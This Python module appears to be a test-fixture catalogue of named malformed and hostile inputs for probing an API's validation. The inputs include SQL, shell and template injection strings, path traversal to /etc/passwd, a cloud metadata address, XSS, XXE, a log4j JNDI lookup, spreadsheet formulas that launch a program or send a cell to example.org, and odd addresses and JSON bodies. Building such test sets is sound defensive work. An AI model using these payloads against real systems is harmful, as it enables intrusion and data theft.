"""Values that broke other applications, or that mean something else than they seem to.

Each has a name, so that a failing test says what was sent, and says what is bad about it. Tests
send them through every door there is; what is refused is refused in words, and what is accepted
means what it says.
"""

from __future__ import annotations

import os
import zlib
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Any, TypeVar
from urllib.parse import quote_from_bytes

T = TypeVar("T")
# Every door takes every value only when it is asked for: BAD_INPUTS=all, some minutes.
EXHAUSTIVE = os.environ.get("BAD_INPUTS") == "all"


@dataclass(frozen=True)
class Item:
    """A text, and what is bad about it."""

    name: str
    value: str
    about: str

    def __str__(self) -> str:
        return self.name

    @property
    def quoted(self) -> str:
        """The text as it stands in an address; half characters as the bytes they would have."""
        return quote_from_bytes(self.value.encode("utf-8", "surrogatepass"), safe="")

    @property
    def reads_as_text(self) -> bool:
        """Whether it can travel as UTF-8 at all."""
        return not any("\ud800" <= character <= "\udfff" for character in self.value)


def _items(*rows: tuple[str, str, str]) -> tuple[Item, ...]:
    return tuple(Item(*row) for row in rows)


# --- texts -------------------------------------------------------------------------------------

CHARACTERS = _items(
    ("NUL", "\x00", "ends texts in C, and PostgreSQL stores none"),
    ("NUL inside", "a\x00b", "the same, where only the ends are looked at"),
    ("lone surrogate", "\ud800", "half a character: it has no UTF-8"),
    ("lone low surrogate", "a\udfffb", "the other half"),
    ("line end of a header", "a\r\nSet-Cookie: b=c", "a second header, wherever it is sent back"),
    ("line feed", "a\nb", "a second line in a log or a file"),
    ("tab", "\ta", "starts a formula in some spreadsheets"),
    ("escape", "\x1b[31mred\x1b[0m", "colours and worse in a terminal"),
    ("delete", "a\x7fb", "a control character beyond the printable ones"),
    ("next line", "a\x85b", "a line end that only some programs know"),
    ("line separator", "a\u2028b", "a line end in JavaScript"),
    ("right-to-left override", "gnp.\u202eexe", "reads otherwise than it is written"),
    ("isolate", "\u2066admin\u2069", "the same by a newer character"),
    ("zero width space", "ad\u200bmin", "two texts that look the same"),
    ("soft hyphen", "ad\u00admin", "invisible as well"),
    ("byte order mark", "\ufeffadmin", "invisible at the start"),
    ("private use", "\ue000", "a character that has no meaning"),
    ("astral", "\U0001f980\U0001f980", "two units in UTF-16, one character here"),
    ("combining", "e" + "\u0301" * 60, "one letter under sixty accents"),
    ("lengthens in NFC", "\ufb2c" * 100, "longer once it is normalised"),
)
WORDS = _items(
    ("nothing", "", "a value that is none"),
    ("spaces", "   ", "blank, though not empty"),
    ("null", "null", "a text that is taken for a missing value"),
    ("true", "true", "a text that is taken for a truth"),
    ("JSON list", "[]", "a list in the place of a text"),
    ("JSON object", '{"$ne": 1}', "an operator in the place of a value"),
    ("private attribute", "__class__", "a name of the language's own"),
    ("ORM path", "owner__password", "a join that nobody meant"),
    ("descending", "-password", "an order by what is secret"),
    ("quote", "'\" OR 1=1 --", "ends a text in SQL"),
    ("backslash", "\\", "escapes what follows"),
    ("wildcards of LIKE", "%_%_%_%", "a scan that tries everything"),
    ("one wildcard", "_", "any character to LIKE"),
    ("expression", "(a+)+$", "a regular expression that never ends"),
    ("path", "../../../etc/passwd", "a file outside of the folder"),
    ("absolute path", "/etc/passwd", "the same"),
    ("Windows path", "..\\..\\boot.ini", "the same elsewhere"),
    ("file address", "file:///etc/passwd", "a file where an address is read"),
    ("metadata address", "http://169.254.169.254/latest/", "the cloud's own secrets"),
    ("shell", "$(touch /tmp/x);`id`|&", "a command where a shell reads it"),
    ("percent", "%s%n%x%(a)s{0}", "a place holder where a text is formatted"),
    ("percent-encoded twice", "%2500%252e%252e", "decoded once too often"),
    ("long", "x" * 5_000, "longer than any column"),
    ("254 characters", "a" * 254, "one more than a host name has"),
)
NUMBERS = _items(
    ("minus one", "-1", "before the first"),
    ("zero", "0", "before the first, or none"),
    ("10^19", "10000000000000000000", "beyond 64 bits"),
    ("a hundred digits", "9" * 100, "beyond any number of the database"),
    ("5000 digits", "9" * 5_000, "longer than Python reads as a number"),
    ("exponent", "1e400", "beyond a float"),
    ("NaN", "NaN", "equal to nothing"),
    ("infinity", "-Infinity", "larger than everything"),
    ("hexadecimal", "0x1F", "31 to some"),
    ("underscore", "1_000", "1000 to Python"),
    ("Arabic digits", "\u0664\u0664\u0663", "443 to Python"),
    ("full-width digits", "\uff14\uff14\uff13", "443 to Python"),
    ("superscript", "\u00b2", "a digit that is no number"),
    ("fraction", "443.0", "a whole number to some"),
    ("plus sign", "+443", "443 to Python"),
    ("padded", " 443 ", "443 to Python"),
    ("leading zero", "0443", "443, or 291 to C"),
    ("33rd day", "2026-01-33", "no day"),
    ("year 0", "0000-00-00", "no day either"),
    ("year 10000", "10000-01-01", "beyond the calendar"),
    ("bare date", "20260101", "a day to some, a number to others"),
)
MARKUP = _items(
    ("script", "<script>alert(1)</script>", "runs, where it is not escaped"),
    ("attribute", '"><img src=x onerror=alert(1)>', "the same out of an attribute"),
    ("image", '<img src="file:///etc/passwd">', "fetched by what makes PDF from HTML"),
    ("scheme", "javascript:alert(1)", "runs, where it is a link"),
    ("template", "{{ 7*7 }}{% debug %}${7*7}<%= 7*7 %>", "computed, where it is a template"),
    ("Typst", '#read("/etc/passwd") $x$ *b* @ref <l> // c', "code of the typesetter"),
    ("Typst raw", '```\n#eval("1")\n``` \\ ~ -- ---', "markup of the typesetter"),
    ("LaTeX", "\\input{/etc/passwd} \\write18{id} $x_1^2$ % c", "code of another typesetter"),
    ("XML", "]]><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;", "an entity outside"),
    ("log4j", "${jndi:ldap://example.org/a}", "looked up by a logger"),
)
FORMULAS = _items(
    ("equals", "=1+1", "a formula"),
    ("plus", "+1+1", "a formula"),
    ("minus", "-1+1", "a formula"),
    ("at", "@SUM(1,1)", "a formula"),
    ("command", "=cmd|' /C calc'!A0", "a formula that starts a program"),
    ("link", '=HYPERLINK("http://example.org/?"&A1,"ok")', "a formula that sends a cell away"),
    ("tab before", "\t=1+1", "a formula after a tab"),
    ("return before", "\r=1+1", "a formula after a line end"),
    ("line feed before", "\n=1+1", "a formula after a line end"),
    ("space before", " =1+1", "a formula after a space"),
    ("wide space before", "\u3000=1+1", "a formula after a space that is not ASCII"),
    ("no-break space before", "\u00a0=1+1", "a formula after another one"),
    ("full-width equals", "\uff1d1+1", "a formula where it is normalised"),
    ("quoted", '"=1+1"', "a formula once the quotes are read"),
    ("quote and line", 'a"\r\n"=1+1', "a formula in the next row of a CSV"),
    ("separator", "a;=1+1,=1+1", "a formula in the next cell"),
)

# --- what stands for hosts and services ----------------------------------------------------------

ADDRESSES = _items(
    ("host bits", "10.1.2.3/8", "which network is meant?"),
    ("everything", "0.0.0.0/0", "any, in other words"),
    ("everything in IPv6", "::/0", "any, in other words"),
    ("nearly everything", "0.0.0.0-255.255.255.255", "any as a range"),
    ("any", "any", "any, plainly"),
    ("IPv4-mapped", "::ffff:10.1.0.5", "an IPv4 address that looks like IPv6"),
    ("IPv4-mapped network", "::ffff:0:0/96", "all of IPv4"),
    ("leading zeros", "010.001.000.005", "8.1.0.5 to C"),
    ("hexadecimal octets", "0x0a.1.0.5", "10.1.0.5 to C"),
    ("one number", "167837701", "10.1.0.5 to C"),
    ("three octets", "10.1.5", "10.1.0.5 to C"),
    ("octet 256", "10.1.0.256", "no octet"),
    ("scoped", "fe80::1%eth0", "means something on one machine only"),
    ("scoped network", "fe80::%1/64", "the same"),
    ("two gaps", "1::2::3", "no address"),
    ("bracketed", "[::1]:443", "an address with a port"),
    ("reversed range", "10.1.0.9-10.1.0.1", "nothing, or a slip"),
    ("range of two families", "10.1.0.1-::1", "nothing"),
    ("range of two kinds", "10.1.0.1-b.example.org", "nothing"),
    ("prefix length 33", "10.1.0.0/33", "no length"),
    ("negative length", "10.1.0.0/-1", "no length"),
    ("two lengths", "10.1.0.0/16/24", "no prefix"),
    ("strange mask", "10.1.0.0/255.0.255.0", "no prefix"),
    ("padded length", "10.1.0.0/016", "16, or 14 to C"),
    ("Arabic address", "\u0661\u0660.1.0.5", "10.1.0.5 to Python's int"),
    ("with a port", "10.1.0.5:443", "an address and more"),
    ("two addresses", "10.1.0.5,10.1.0.6", "a list in one value"),
)
NAMES = _items(
    ("star alone", "*", "any, in other words"),
    ("star and dot", "*.", "any name at all"),
    ("two stars", "*.*.example.org", "no pattern"),
    ("star inside", "a.*.example.org", "no pattern"),
    ("star of a top level", "*.org", "a third of the world"),
    ("homograph", "\u0430pple.com", "another name that looks the same"),
    ("mixed scripts", "p\u0430ypal.com", "the same with one letter"),
    ("its punycode", "xn--80ak6aa92e.com", "the same in ASCII"),
    ("bad punycode", "xn--\u00e9.com", "no name"),
    ("empty punycode", "xn--", "no name"),
    ("full stop of elsewhere", "a\u3002example.org", "a dot to IDNA"),
    ("trailing dot", "a.example.org.", "the same name as without"),
    ("two dots", "a..example.org", "an empty label"),
    ("dot first", ".example.org", "an empty label"),
    ("label of 64", f"{'a' * 64}.example.org", "a label may have 63"),
    ("name of 254", f"{'a.' * 121}example.org.", "a name may have 253"),
    ("hyphen first", "-a.example.org", "no label"),
    ("underscore", "_dmarc.example.org", "no host"),
    ("space inside", "a b.example.org", "no name"),
    ("with a scheme", "https://a.example.org/", "an address, no name"),
    ("with a user", "user@a.example.org", "no name"),
    ("numbers only", "1.2.3.4.5", "nearly an address"),
    ("local", "localhost", "each machine itself"),
)
SERVICES = _items(
    ("port 0", "tcp/0", "no port"),
    ("port 65536", "tcp/65536", "no port"),
    ("reversed ports", "tcp/443-80", "nothing, or a slip"),
    ("open range", "tcp/443-", "no end"),
    ("ICMP with a port", "icmp/443/tcp", "ICMP has none"),
    ("ICMP type 256", "icmp/256", "no type"),
    ("every port", "tcp/1-65535", "any, in other words"),
    ("any service", "any", "any, plainly"),
    ("protocol 256", "256", "no protocol"),
    ("negative protocol", "-6/443", "no protocol"),
    ("QUIC", "quic/443", "no protocol of IP"),
    ("no protocol", "/443", "which one?"),
    ("Arabic port", "tcp/\u0664\u0664\u0663", "443 to Python's int"),
    ("many ports", "tcp/" + ",".join(map(str, range(1, 4_000, 2))), "longer than any rule"),
)

TEXTS = (*CHARACTERS, *WORDS, *NUMBERS, MARKUP[0], FORMULAS[0])
ENDS = (*ADDRESSES, *NAMES, *SERVICES)
# JSON values of another type than a field has; a field takes one of them at most.
VALUES: tuple[tuple[str, Any], ...] = (
    ("null", None),
    ("true", True),
    ("zero", 0),
    ("minus one", -1),
    ("443", 443),
    ("10^19", 10**19),
    ("fraction", 4.5),
    ("list", []),
    ("list of text", ["x"]),
    ("list of lists", [[]]),
    ("list of null", [None]),
    ("list of NUL-free oddities", ["\u202e", "a\nb"]),
    ("a thousand items", ["10.1.0.5"] * 1_000),
    ("object", {}),
    ("operator", {"$ne": 1}),
    ("object in an object", {"a": {"b": {"c": 1}}}),
    ("strange keys", {"__class__": "x", "a.b[0]": "y", "": "z", "\u202e": "w"}),
    ("list of objects", [{"value": {"a": 1}}, {}]),
)

# --- whole requests ------------------------------------------------------------------------------

BODIES: dict[str, bytes] = {
    "duplicate keys": b'{"slug": "a", "slug": "b", "name": "c"}',
    "duplicate keys inside": b'{"slug": "a", "name": {"x": 1, "x": 2}}',
    "NaN": b'{"slug": "a", "name": NaN}',
    "Infinity": b'{"slug": "a", "name": -Infinity}',
    "too large a number": b'{"slug": "a", "name": 1e999}',
    "a number of 5000 digits": b'{"slug": "a", "name": ' + b"9" * 5000 + b"}",
    "depth 10 000": b'{"slug": ' + b"[" * 10_000 + b"]" * 10_000 + b"}",
    "depth 10 000, unclosed": b"[" * 10_000,
    "depth 10 000 of objects": b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
    "NUL": b'{"slug": "a", "name": "\\u0000"}',
    "NUL in a key": b'{"slug": "a", "na\\u0000me": "x"}',
    "raw NUL": b'{"slug": "a", "name": "\x00"}',
    "lone surrogate": b'{"slug": "a", "name": "\\ud800"}',
    "lone surrogate in a key": b'{"slug": "a", "\\udfff": "x"}',
    "not UTF-8": b'{"slug": "a", "name": "\xff\xfe"}',
    "overlong UTF-8": b'{"slug": "a", "name": "\xc0\xaf"}',
    "UTF-16": '{"slug": "a", "name": "x"}'.encode("utf-16"),
    "byte order mark": b'\xef\xbb\xbf{"slug": "a", "name": "x"}',
    "truncated": b'{"slug": "a", "name": "x"',
    "two values": b'{"slug": "a", "name": "x"} {}',
    "comment": b'{"slug": "a", /* why */ "name": "x"}',
    "trailing comma": b'{"slug": "a", "name": "x",}',
    "single quotes": b"{'slug': 'a', 'name': 'x'}",
    "nothing but space": b"   ",
    "form": b"slug=a&name=x",
    "pickle": b"\x80\x04K\x01.",
    "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\xabV*\xceIM\x06\x00",
}
IDEMPOTENCY_KEYS = _items(
    ("empty", "", "no key"),
    ("10 KB", "k" * 10_240, "longer than any key"),
    ("256", "k" * 256, "one more than a key has"),
    ("line end", "a\tb", "no printable character"),
    ("NUL", "a\x00b", "PostgreSQL stores none"),
    ("not ASCII", "cl\u00e9", "no printable ASCII"),
)
FILE_NAMES = _items(
    ("line end", "a\r\nSet-Cookie: b=c.pdf", "a header of its own"),
    ("path", "../../../etc/cron.d/x", "a file outside of the folder"),
    ("absolute path", "/etc/passwd", "the same"),
    ("quote", 'a"; filename="b.exe', "another name"),
    ("right-to-left override", "gnp.\u202eexe", "reads otherwise"),
    ("NUL", "a.pdf\x00.exe", "ends in C"),
    ("half a character", "a\udcff.pdf", "a name of bytes that are no UTF-8"),
    ("long", "a" * 254 + ".pdf", "longer than a file system takes"),
)


def share(values: Sequence[T], of: str, divisor: int) -> Sequence[T]:
    """The part of the values that the door `of` is tried with: every `divisor`-th, other ones for
    each door, so that together the doors take them all; all of them where that is asked for."""
    return values if EXHAUSTIVE else values[zlib.crc32(of.encode()) % divisor :: divisor]
